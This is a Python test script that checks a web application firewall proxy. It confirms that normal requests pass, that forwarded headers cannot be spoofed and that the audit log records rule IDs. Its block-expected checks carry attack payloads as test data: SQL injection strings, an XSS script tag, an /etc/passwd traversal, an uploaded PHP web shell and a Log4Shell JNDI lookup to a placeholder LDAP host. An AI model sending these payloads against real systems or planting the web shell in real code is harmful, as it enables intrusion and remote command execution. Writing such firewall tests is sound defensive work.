"""Checks run by compat/waf/run with Python `requests` against opshelf's WAF proxy.

argv: BASE_URL AUDIT_LOG KNOWN_FAILURES CURL_SCANNER_STATUS
"""

import json
import sys

import requests

base, audit, known_path, curl_status = sys.argv[1:5]
known = {}
for line in open(known_path, encoding="utf-8"):
    line = line.strip()
    if line and not line.startswith("#"):
        name, _, reason = line.partition(" ")
        known[name] = reason

H = {"User-Agent": "Mozilla/5.0 (compat) Firefox/120.0", "Accept": "text/html,*/*"}
session = requests.Session()
results = []


def check(name, fn):
    try:
        ok, detail = fn()
    except Exception as e:  # noqa: BLE001 - any client error is a failed check
        ok, detail = False, repr(e)
    results.append((name, ok, detail))


def status(method, path, expect, **kw):
    def fn():
        headers = dict(H)
        headers.update(kw.pop("headers", {}))
        r = session.request(method, base + path, headers=headers, timeout=20, **kw)
        return r.status_code == expect, f"status {r.status_code}, expected {expect}"

    return fn


check("get-ok", status("GET", "/index.html?utm_source=x&utm_campaign=y", 200))
check("form-ok", status("POST", "/contact", 200, data={"name": "Ann", "msg": "please select a union rep"}))
check("json-ok", status("POST", "/api", 200, json={"a": [1, 2, {"b": "text"}]}))
check(
    "multipart-ok",
    status("POST", "/upload", 200, files={"f": ("a.txt", b"hello world", "text/plain")}, data={"t": "x"}),
)
check("cookie-ok", status("GET", "/", 200, cookies={"session": "abc", "theme": "dark"}))
check("sqli-query-403", status("GET", "/?id=1' OR '1'='1", 403))
check("sqli-json-403", status("POST", "/api", 403, json={"q": "1 UNION SELECT password FROM users--"}))
check("xss-form-403", status("POST", "/c", 403, data={"c": "<script>alert(1)</script>"}))
check("traversal-403", status("GET", "/f?p=../../../etc/passwd", 403))
check(
    "php-upload-403",
    status("POST", "/upload", 403, files={"f": ("x.php", b"<?php system($_GET['c']); ?>", "application/x-php")}),
)
check("log4shell-403", status("GET", "/", 403, headers={"X-Api-Version": "${jndi:ldap://e.example/a}"}))
check("curl-scanner-403", lambda: (curl_status == "403", f"curl with a Nikto UA got {curl_status}"))


def forwarded():
    r = session.get(base + "/echo?x=1", headers=H, timeout=20)
    j = r.json()
    h = j["headers"]
    ok = (
        r.status_code == 200
        and h.get("x-forwarded-for") == "127.0.0.1"
        and h.get("x-forwarded-proto") == "http"
        and j["path"] == "/echo?x=1"
    )
    return ok, f"{r.status_code} {h}"


check("x-forwarded-headers", forwarded)


def forwarded_spoof():
    # An untrusted client's own X-Forwarded-* never reach the upstream: it would let anyone
    # choose the address the application logs and rate-limits.
    spoof = dict(H, **{"X-Forwarded-For": "6.6.6.6", "X-Forwarded-Proto": "https"})
    r = session.get(base + "/echo?x=2", headers=spoof, timeout=20)
    h = r.json()["headers"]
    ok = r.status_code == 200 and h.get("x-forwarded-for") == "127.0.0.1" and h.get("x-forwarded-proto") == "http"
    return ok, f"{r.status_code} {h}"


check("x-forwarded-not-spoofable", forwarded_spoof)


def body_passes():
    r = session.post(base + "/echo", data={"a": "1", "b": "two words"}, headers=H, timeout=20)
    return r.json()["body"] == "a=1&b=two+words", r.text


check("body-forwarded-intact", body_passes)


def audited():
    lines = [json.loads(line) for line in open(audit, encoding="utf-8")]
    ids = {m["details"]["ruleId"] for rec in lines for m in rec["transaction"]["messages"]}
    return "949110" in ids and "942100" in ids, f"rule ids in the audit log: {sorted(ids)}"


check("audit-log-json", audited)

passed = failed = unexpected = 0
for name, ok, detail in results:
    if ok:
        passed += 1
        continue
    failed += 1
    if name in known:
        print(f"known {name}: {detail} ({known[name]})")
    else:
        unexpected += 1
        print(f"FAIL {name}: {detail}")
print(f"{passed} passed, {failed} failed")
sys.exit(1 if unexpected else 0)
